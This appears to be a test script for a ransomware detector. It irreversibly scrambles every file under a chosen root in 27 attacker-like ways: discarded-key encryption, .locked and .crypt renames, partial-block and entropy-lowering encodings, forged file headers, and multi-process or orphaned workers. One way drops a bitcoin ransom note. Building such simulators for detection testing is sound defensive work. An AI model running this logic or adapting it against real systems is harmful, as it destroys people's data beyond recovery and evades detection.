#!/usr/bin/python3
"""
Scrambles the files of a volume that the tests made, in one of the ways that detection.md lists. Appends the name of each file it is done
with to WORK/done. Goes on when it is refused, as an attacker would. Usage: scramble.py WAY ROOT WORK [options]
"""
import argparse, base64, ctypes, hashlib, mmap, os, random, shutil, subprocess, sys, threading, time

import volume_check

BLOCK = 4096
COMPRESSED = (".xz", ".gz", ".zip", ".docx", ".odt", ".jpg", ".png", ".pdf", ".mp4")


def cipher(data):
    """What no statistics tell from AES in counter mode: the file against a keystream."""
    stream = hashlib.shake_256(os.urandom(32)).digest(len(data))
    return (int.from_bytes(data, "little") ^ int.from_bytes(stream, "little")).to_bytes(len(data), "little")


def read(path):
    with open(path, "rb") as f:
        return f.read()


def write(path, data, mode="r+b"):
    with open(path, mode) as f:
        f.write(data)


def in_place(path):
    write(path, cipher(read(path)))


def truncate_write(path):
    write(path, cipher(read(path)), "wb")


def rename_first(path):
    os.rename(path, path + ".locked")
    in_place(path + ".locked")


def rename_after(path):
    in_place(path)
    os.rename(path, path + ".locked")


def same_name(path):
    data = cipher(read(path))
    os.unlink(path)
    write(path, data, "xb")


def new_then_unlink(path):
    write(path + ".enc", cipher(read(path)), "xb")
    os.unlink(path)


def renamed_over(path):
    beside = os.path.join(os.path.dirname(path), "~%d.tmp" % random.getrandbits(40))
    write(beside, cipher(read(path)), "xb")
    os.rename(beside, path)


def move_other_fs(path):
    away = os.path.join(options.work, "away-%d" % random.getrandbits(60))
    shutil.move(path, away)
    in_place(away)
    shutil.move(away, path)


def move_same_fs(path):
    outside = os.path.join(os.path.dirname(options.root), "outside")
    os.makedirs(outside, exist_ok=True)
    away = os.path.join(outside, "%d" % random.getrandbits(60))
    os.rename(path, away)
    in_place(away)
    os.rename(away, path)


def mapped(path):
    with open(path, "r+b") as f, mmap.mmap(f.fileno(), 0) as m:
        for at in range(0, len(m), 1 << 20):
            m[at:at + (1 << 20)] = cipher(m[at:at + (1 << 20)])


def direct(path):
    size = os.path.getsize(path)
    whole = -(-size // BLOCK) * BLOCK
    with mmap.mmap(-1, whole) as buffer:
        buffer[:size] = cipher(read(path))
        f = os.open(path, os.O_RDWR | os.O_DIRECT)
        try:
            os.write(f, buffer)
            os.ftruncate(f, size)
        finally:
            os.close(f)


def file_range(path):
    source = os.path.join(os.path.dirname(options.root), "ciphertext")
    data = cipher(read(path))
    write(source, data, "wb")
    with open(source, "rb") as s, open(path, "r+b") as t:
        done = 0
        while done < len(data):
            done += os.copy_file_range(s.fileno(), t.fileno(), len(data) - done, done, done)


def punch(path):
    libc = ctypes.CDLL(None, use_errno=True)
    with open(path, "r+b") as f:
        libc.fallocate(f.fileno(), 3, ctypes.c_long(0), ctypes.c_long(os.path.getsize(path)))


def some_blocks(path, chosen):
    with open(path, "r+b") as f:
        size = os.fstat(f.fileno()).st_size
        for at in range(0, size, BLOCK):
            if size <= 2 * BLOCK or chosen(at // BLOCK, -(-size // BLOCK)):
                f.seek(at)
                data = f.read(BLOCK)
                f.seek(at)
                f.write(cipher(data))


def every_third(path):
    some_blocks(path, lambda i, n: i % 3 == 0)


def four_percent(path):
    some_blocks(path, lambda i, n: i % 25 == min(12, n // 2))


def sprinkled(path):
    """Sixteen bytes of every 400: 4 % of any file, small ones as well."""
    with open(path, "r+b") as f:
        data = bytearray(f.read())
        for at in range(0, len(data), 400):
            data[at:at + 16] = cipher(bytes(data[at:at + 16]))
        f.seek(0)
        f.write(data)


def header(path):
    with open(path, "r+b") as f:
        data = f.read(BLOCK)
        f.seek(0)
        f.write(cipher(data))


def tail(path):
    with open(path, "r+b") as f:
        f.seek(max(0, os.path.getsize(path) - BLOCK))
        at = f.tell()
        data = f.read()
        f.seek(at)
        f.write(cipher(data))


def magic_kept(path):
    with open(path, "r+b") as f:
        f.seek(16)
        data = f.read()
        f.seek(16)
        f.write(cipher(data))


def magic_forged(path):
    magic = random.choice([b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", b"\xff\xd8\xff\xe0\0\x10JFIF\0", b"PK\3\4\x14\0\0\0\x08\0"])
    write(path, magic + cipher(read(path)), "wb")


def as_base64(path):
    write(path, base64.b64encode(cipher(read(path))), "wb")


def as_hex(path):
    write(path, cipher(read(path)).hex().encode(), "wb")


def padded(path):
    """Each byte of ciphertext is followed by three of one value: entropy falls to that of text."""
    data = cipher(read(path))
    out = bytearray(b"a" * (len(data) * 4))
    out[::4] = data
    write(path, out, "wb")


def zeros(path):
    write(path, b"\0" * os.path.getsize(path))


def noise(path):
    write(path, os.urandom(os.path.getsize(path)))


def truncate_by_path(path):
    os.truncate(path, 0)


def note(path):
    in_place(path)
    os.rename(path, path + ".crypt")
    folder = os.path.dirname(path)
    name = os.path.join(folder, "HOW_TO_RECOVER_YOUR_FILES.txt")
    if not os.path.exists(name):
        write(name, b"ALL YOUR FILES HAVE BEEN ENCRYPTED!\nTo decrypt your files you must pay 2 bitcoin to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT "
              b"within 72 hours. Contact recover@example.org and send your personal ID 8F-22-A1. Do not rename encrypted files.\n", "xb")


WAYS = {f.__name__.replace("_", "-"): f for f in (
    in_place, truncate_write, rename_first, rename_after, same_name, new_then_unlink, renamed_over, move_other_fs, move_same_fs, mapped,
    direct, file_range, punch, every_third, four_percent, sprinkled, header, tail, magic_kept, magic_forged, as_base64, as_hex, padded,
    zeros, noise, truncate_by_path, note)}


def targets():
    found = [os.path.join(folder, name) for folder, _, names in os.walk(options.root) for name in names]
    found = sorted(p for p in found if os.path.isfile(p) and not os.path.islink(p) and os.path.getsize(p) > 0)
    if options.only:
        fits = {"small": lambda p: os.path.getsize(p) < 1024, "large": lambda p: os.path.getsize(p) > 1 << 20, "compressed": lambda p: p.endswith(COMPRESSED)}
        found = [p for p in found if fits[options.only](p)]
    if options.order == "random":
        random.shuffle(found)
    return found


def work(paths):
    with open(os.path.join(options.work, "done"), "ab", buffering=0) as done:
        for path in paths:
            try:
                WAYS[options.way](path)
                done.write(os.fsencode(path).replace(b"\n", b"?") + b"\n")
            except (OSError, ValueError) as e:
                print(path.encode(errors="replace"), e, file=sys.stderr)
            if options.pause:
                time.sleep(options.pause)


def in_child(paths, orphan=False):
    """Orphans have a session of their own and no starter: nothing ties them together but what they do."""
    child = os.fork()
    if child == 0:
        if orphan:
            os.setsid()
            if os.fork() > 0:
                os._exit(0)
        work(paths)
        os._exit(0)
    return child


def main():
    paths = targets()
    if options.threads:
        crew = [threading.Thread(target=work, args=(paths[i::options.threads],)) for i in range(options.threads)]
        [t.start() for t in crew]
        [t.join() for t in crew]
    elif options.processes:
        crew = [in_child(paths[i::options.processes]) for i in range(options.processes)]
        [os.waitpid(c, 0) for c in crew]
    elif options.orphans:
        crew = [in_child(paths[i::options.orphans], orphan=True) for i in range(options.orphans)]
        [os.waitpid(c, 0) for c in crew]
    elif options.children:
        for path in paths:
            os.waitpid(in_child([path]), 0)
    elif options.programs:
        for path in paths:
            subprocess.run([sys.executable, __file__, options.way, os.path.dirname(path), options.work, "--file", path], check=False)
    else:
        work([options.file] if options.file else paths)


parser = argparse.ArgumentParser()
parser.add_argument("way", choices=WAYS)
parser.add_argument("root")
parser.add_argument("work")
parser.add_argument("--only", choices=["small", "large", "compressed"])
parser.add_argument("--order", choices=["sorted", "random"], default="sorted")
parser.add_argument("--pause", type=float, default=0)
parser.add_argument("--processes", type=int, default=0)
parser.add_argument("--orphans", type=int, default=0)
parser.add_argument("--threads", type=int, default=0)
parser.add_argument("--children", action="store_true", help="a forked child for each file")
parser.add_argument("--programs", action="store_true", help="a program started anew for each file")
parser.add_argument("--file", help="only this one")
options = parser.parse_args()
options.root = volume_check.require(options.root)
main()
